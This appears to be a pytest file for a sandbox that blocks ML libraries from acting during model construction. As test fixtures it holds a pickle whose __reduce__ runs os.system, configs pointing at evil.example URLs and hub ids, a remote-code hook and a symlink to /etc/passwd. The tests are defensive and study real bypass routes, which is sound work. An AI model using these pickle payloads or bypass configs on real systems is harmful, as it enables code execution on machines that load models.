"""Actions forbidden to a library during construction, with the first wall switched off.

Each way past the argument lists that the sources of transformers, timm and torchvision offer to a
constructor is a case here: docs/security.md has the list.
"""

from __future__ import annotations

import contextlib
import ctypes
import inspect
import json
import marshal
import os
import pickle
import runpy
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import urllib.request
from importlib.machinery import SourceFileLoader
from pathlib import Path
from types import ModuleType

import pytest
import torch
from torch import nn

from gradscope.errors import ConfigError
from gradscope.loading import specs
from gradscope.loading.specs import hf, timm
from gradscope.loading.targets import Targets
from gradscope.loading.wall import Wall


class Planted:
    """Unpickled without care, this leaves a file behind."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.path}",)


@pytest.fixture
def targets(tmp_path, monkeypatch):
    """Of a config beside which an attacker put files; nothing may come of them."""
    monkeypatch.chdir(tmp_path)
    for name in ("HF_HOME", "TORCH_HOME"):
        monkeypatch.setenv(name, str(tmp_path / "caches" / name))
    (tmp_path / "evil").mkdir()
    payload = f"open({str(tmp_path / 'ran')!r}, 'w')\n"
    (tmp_path / "evil/net.py").write_text(f"{payload}class Net: ...\n")
    torch.save({"x": Planted(tmp_path / "ran")}, tmp_path / "evil/pytorch_model.bin")
    return Targets(tmp_path)


@pytest.fixture
def second_wall_only(monkeypatch):
    """Nothing is refused by its name."""
    monkeypatch.setattr("gradscope.config.targets.REFUSED", ())
    monkeypatch.setattr("gradscope.loading.targets.check_arguments", lambda *args: None)
    monkeypatch.setattr("gradscope.loading.targets.safe_arguments", lambda found: {})
    monkeypatch.setattr(Targets, "_no_download", lambda self, found, kwargs, *rest: kwargs)
    monkeypatch.setattr(hf, "refuse_kernels", lambda *args: None)
    monkeypatch.setattr(hf, "check_settings", lambda *args: None)
    monkeypatch.setattr(timm, "check", lambda request: None)


def left_behind(folder: Path) -> list[Path]:
    """Return the files that neither test nor fixture put there."""
    planted = {"evil", *(f"evil/{name}" for name in ("net.py", "pytorch_model.bin", *CONFIGS))}
    found = (path.relative_to(folder) for path in folder.rglob("*"))
    return [path for path in found if str(path) not in planted]


CONFIGS = ("config.json", "preprocessor_config.json")


def config_files(folder: Path, **content: object) -> str:
    """Write transformers' files of a model into the attacker's folder."""
    for name in CONFIGS:
        (folder / "evil" / name).write_text(json.dumps(content))
    return str(folder / "evil")


GPT2 = {"model_type": "gpt2", "n_layer": 1, "n_head": 1, "n_embd": 4, "vocab_size": 8}
URL = {"url": "https://evil.example/x.pth"}


def backbone(**arguments):
    config = {"_target_": "transformers.TimmBackboneConfig", "backbone": "resnet10t"}
    return {"_target_": "transformers.TimmBackbone", "config": config, **arguments}


#: Each builds something that a config may name; the words are what was about to happen.
BYPASSES = {
    "timm: an address": (
        {"_target_": "timm.create_model", "_args_": ["resnet10t", True], "pretrained_cfg": URL},
        "write",
    ),
    "timm: a file's address": (
        {
            "_target_": "timm.create_model",
            "_args_": ["resnet10t", True],
            "pretrained_cfg": {"url": "file:evil/pytorch_model.bin"},
        },
        "write",
    ),
    "timm: an id of the hub": (
        {
            "_target_": "timm.create_model",
            "_args_": ["resnet10t", True],
            "pretrained_cfg_overlay": {"hf_hub_id": "evil/model"},
        },
        "connect to",
    ),
    "timm: a name that is an id": (
        {"_target_": "timm.create_model", "_args_": ["hf-hub:evil/model"]},
        "connect to",
    ),
    "timm: a distillation teacher": (
        {"_target_": "timm.task.DistillationTeacher", "model_name_or_module": "resnet10t"},
        "connect to",
    ),
    "timm: a teacher's address": (
        {
            "_target_": "timm.task.DistillationTeacher",
            "model_name_or_module": "resnet10t",
            "pretrained_cfg_overlay": URL | {"hf_hub_id": None},
        },
        "write",
    ),
    "timm through transformers": (backbone(pretrained=True, pretrained_cfg=URL), "write"),
    "timm through transformers' auto class": (
        {
            "_target_": "transformers.AutoBackbone.from_config",
            "config": backbone()["config"],
            "pretrained": True,
            "pretrained_cfg_overlay": {"hf_hub_id": "evil/model"},
        },
        "connect to",
    ),
    "transformers: a pickle": (
        {
            "_target_": "transformers.AutoModel.from_pretrained",
            "_args_": ["evil"],
            "weights_only": False,
        },
        "unpickle `posix.system`",
    ),
    "transformers: an id of the hub": (
        {"_target_": "transformers.AutoModel.from_pretrained", "_args_": ["evil/model"]},
        "connect to",
    ),
    "transformers: an adapter": (
        {
            "_target_": "transformers.Wav2Vec2ForCTC",
            "target_lang": "xyz",
            "config": {
                "_target_": "transformers.Wav2Vec2Config",
                "name_or_path": "evil/model",
                "adapter_attn_dim": 4,
                "hidden_size": 4,
                "num_attention_heads": 1,
                "num_hidden_layers": 1,
                "intermediate_size": 4,
                "conv_dim": [4],
                "conv_stride": [2],
                "conv_kernel": [2],
                "num_conv_pos_embedding_groups": 1,
                "vocab_size": 8,
            },
        },
        "connect to",
    ),
    "transformers: the config of a part": (
        {
            "_target_": "transformers.MaskFormerConfig",
            "backbone": "evil/model",
            "use_pretrained_backbone": True,
        },
        "connect to",
    ),
    "transformers: a question about a part": (
        {
            "_target_": "transformers.DetrModel",
            "config": {
                "_target_": "transformers.DetrConfig",
                "backbone_config": GPT2 | {"auto_map": {"AutoBackbone": "evil--net.Net"}},
            },
        },
        "ask a question",
    ),
    "torchvision: weights of a part": (
        {"_target_": "torchvision.models.resnet18", "weights": "DEFAULT"},
        "write",
    ),
}


@pytest.mark.slow
@pytest.mark.usefixtures("second_wall_only")
@pytest.mark.parametrize(("asked", "deed"), BYPASSES.values(), ids=BYPASSES)
def test_what_a_constructor_would_do(asked, deed, targets, tmp_path):
    for library in ("timm", "transformers"):
        pytest.importorskip(library)
    config_files(tmp_path, **GPT2)
    with pytest.raises(ConfigError, match=f"was about to {deed}") as caught:
        targets.instantiate(asked, "model")
    assert "--allow" in str(caught.value.problems[0].help)
    assert left_behind(tmp_path) == []


def test_timm_reads_again_without_the_safe_reader(targets, second_wall_only, tmp_path, monkeypatch):
    """``weights_only=True`` raises a TypeError, as in a torch that lacks it."""
    builder = pytest.importorskip("timm.models._builder")
    if "cache_dir" not in inspect.signature(builder.build_model_with_cfg).parameters:
        pytest.skip("this timm has no folder of its own for what it fetched")

    def lacks_it(*args, weights_only=None, **kwargs):
        if weights_only is not None:
            raise TypeError("unexpected keyword argument 'weights_only'")
        return torch.hub.load_state_dict_from_url(*args, **kwargs)

    monkeypatch.setattr(builder, "load_state_dict_from_url", lacks_it)
    cfg = {"url": "https://evil.example/pytorch_model.bin"}
    asked = {
        "_target_": "timm.create_model",
        "_args_": ["resnet10t", True],
        "pretrained_cfg": cfg,
        "cache_dir": "evil",
    }
    with pytest.raises(ConfigError, match=r"was about to unpickle `posix\.system`"):
        targets.instantiate(asked, "model")
    assert left_behind(tmp_path) == []


@pytest.mark.usefixtures("second_wall_only")
@pytest.mark.parametrize("auto", ["AutoConfig", "AutoModel", "AutoTokenizer", "AutoImageProcessor"])
@pytest.mark.parametrize("answer", [True, None])
def test_code_that_comes_with_a_model(auto, answer, targets, tmp_path):
    """Trusted in so many words, or after a question."""
    pytest.importorskip("transformers")
    kinds = ("AutoConfig", "AutoModel", "AutoTokenizer", "AutoImageProcessor")
    folder = config_files(tmp_path, model_type="evil", auto_map=dict.fromkeys(kinds, "net.Net"))
    asked = {
        "_target_": f"transformers.{auto}.from_pretrained",
        "_args_": [folder],
        "trust_remote_code": answer,
    }
    deed = "write" if answer else "ask a question"
    with pytest.raises(ConfigError, match=f"was about to {deed}"):
        targets.instantiate(asked, "model")
    assert left_behind(tmp_path) == []


def send() -> None:
    with socket.socket(type=socket.SOCK_DGRAM) as sending:
        sending.sendto(b"x", ("127.0.0.1", 9))


#: Each does one thing to a path in its own folder; the words are how it is reported of.
DEEDS = {
    "unpickles": (lambda p: pickle.loads(pickle.dumps(Planted(p))), "unpickle `posix.system`"),
    "unpickles a class": (lambda p: pickle.loads(pickle.dumps(p)), "unpickle `pathlib"),
    "loads a pickle": (
        lambda p: torch.load(p.parent.parent / "evil/pytorch_model.bin", weights_only=False),
        "unpickle `posix.system`",
    ),
    "starts a process": (lambda p: subprocess.run(["touch", p]), "start a process"),
    "starts a shell": (lambda p: os.system(f"touch {p}"), "start a process (`touch`)"),
    "spawns": (lambda p: os.posix_spawn("/bin/touch", ["touch", p], {}), "start a process"),
    "forks": (lambda p: os.fork() or os._exit(1), "start a process"),
    "connects": (lambda p: socket.create_connection(("127.0.0.1", 9)), "connect to `127.0.0.1"),
    "sends": (lambda p: send(), "connect to `127.0.0.1:9`"),
    "looks up a name": (lambda p: socket.getaddrinfo("evil.example", 80), "`evil.example`"),
    "fetches": (lambda p: urllib.request.urlopen("http://evil.example/"), "`evil.example`"),
    "writes": (lambda p: p.write_text("x"), "write `"),
    "appends": (lambda p: p.with_name("old").open("a"), "write `"),
    "opens to write": (lambda p: os.open(p, os.O_CREAT | os.O_RDWR), "write `"),
    "makes a folder": (lambda p: p.mkdir(), "write `"),
    "removes": (lambda p: p.with_name("old").unlink(), "write `"),
    "renames": (lambda p: p.with_name("old").rename(p), "write `"),
    "links": (lambda p: p.symlink_to("/etc/passwd"), "write `"),
    "clears a folder": (lambda p: shutil.rmtree(p.parent), "write `"),
    "makes a database": (lambda p: sqlite3.connect(p).execute("create table t (x)"), "write `"),
    "runs a file": (lambda p: runpy.run_path(str(p.with_name("old"))), "run code in `"),
    "imports a file": (
        lambda p: SourceFileLoader("old", str(p.with_name("old"))).exec_module(ModuleType("old")),
        "run code in `",
    ),
    "loads a library": (lambda p: ctypes.CDLL(str(p.with_name("old"))), "run code in `"),
    "unmarshals": (lambda p: marshal.loads(marshal.dumps(1)), "unmarshal code"),
    "asks": (lambda p: input("Do you wish to run the custom code? [y/N] "), "ask a question"),
}


@pytest.mark.parametrize(("do", "deed"), DEEDS.values(), ids=DEEDS)
@pytest.mark.parametrize("caught", [False, True], ids=["", "and catches the refusal"])
def test_what_is_refused(do, deed, caught, targets, tmp_path):
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "old").write_text("x = 1")
    before = contents(folder)
    with pytest.raises(ConfigError) as refusal, Wall("lib.Thing"):
        if not caught:
            do(folder / "new")
        with contextlib.suppress(ConfigError):
            do(folder / "new")
        if "process" in deed:
            raise ValueError("it cannot do without")
    assert str(refusal.value).startswith("`lib.Thing` was about to ")
    assert deed in str(refusal.value)
    assert contents(folder) == before


def contents(folder: Path) -> dict[Path, bytes | None]:
    """All that is in a folder but modules that Python has compiled."""
    paths = (path for path in folder.rglob("*") if "__pycache__" not in path.parts)
    return {path: path.read_bytes() if path.is_file() else None for path in paths}


def test_a_look_at_the_machine_that_a_library_can_do_without():
    from torch.utils.cpp_extension import is_ninja_available

    with Wall("lib.Thing"):
        assert not is_ninja_available()


def test_a_thread_that_was_started_within(tmp_path):
    with pytest.raises(ConfigError, match="write"), Wall("lib.Thing"):
        thread = threading.Thread(target=quietly, args=[(tmp_path / "x").touch])
        thread.start()
        thread.join()
    assert list(tmp_path.iterdir()) == []


def quietly(do) -> None:
    with contextlib.suppress(ConfigError):
        do()


def test_a_thread_that_ran_before_is_left_alone(tmp_path):
    go, done = threading.Event(), threading.Event()
    thread = threading.Thread(target=lambda: (go.wait(), (tmp_path / "x").touch(), done.set()))
    thread.start()
    with Wall("lib.Thing"):
        go.set()
        assert done.wait(10)
    thread.join()
    assert (tmp_path / "x").exists()


def test_behind_the_wall_all_is_as_before(tmp_path):
    stdin = sys.stdin
    with Wall("lib.Thing"):
        assert sys.stdin.read() == ""
    assert sys.stdin is stdin
    (tmp_path / "x").write_text("x")
    assert subprocess.run(["true"]).returncode == 0


def test_a_download_writes_the_caches_and_nothing_else(targets, tmp_path):
    weights = Path(torch.hub.get_dir()) / "checkpoints/x.pth"
    with Wall("lib.Thing", downloads=True):
        weights.parent.mkdir(parents=True)
        weights.write_bytes(b"x")
        weights.rename(weights.with_name("y.pth"))
        with socket.socket() as listening:
            listening.bind(("127.0.0.1", 0))
    for path in (tmp_path / "x", tmp_path / "caches/HF_HOME/modules/evil.py"):
        path.parent.mkdir(parents=True, exist_ok=True)
        with pytest.raises(ConfigError, match="write"), Wall("lib.Thing", downloads=True):
            path.touch()


def test_the_users_own_code_has_no_wall(targets, tmp_path):
    (tmp_path / "net.py").write_text(
        "import subprocess, torch\nfrom pathlib import Path\n"
        "class Net(torch.nn.Linear):\n"
        "    def __init__(self):\n"
        "        super().__init__(1, 1)\n"
        "        Path(__file__).with_name('mine').touch()\n"
        "        subprocess.run(['true'])\n"
    )
    specs.build("./net.py:Net", targets)
    assert (tmp_path / "mine").exists()


def test_a_builder_that_is_bound_keeps_its_wall(targets, second_wall_only):
    pytest.importorskip("timm")
    asked = {"_target_": "timm.create_model", "_partial_": True, "pretrained_cfg": URL}
    bound = targets.instantiate(asked, "model.backbone")
    with pytest.raises(ConfigError, match="was about to"):
        bound("resnet10t", pretrained=True)


def test_a_package_that_was_allowed_has_no_wall(tmp_path):
    targets = Targets(tmp_path, ["timm.*"])
    timm_ = pytest.importorskip("timm")
    assert targets.wall(timm_.create_model, "timm.create_model") is None
    assert Targets(tmp_path).wall(timm_.create_model, "timm.create_model") is not None
    assert Targets(tmp_path).wall(nn.Linear, "torch.nn.Linear") is not None
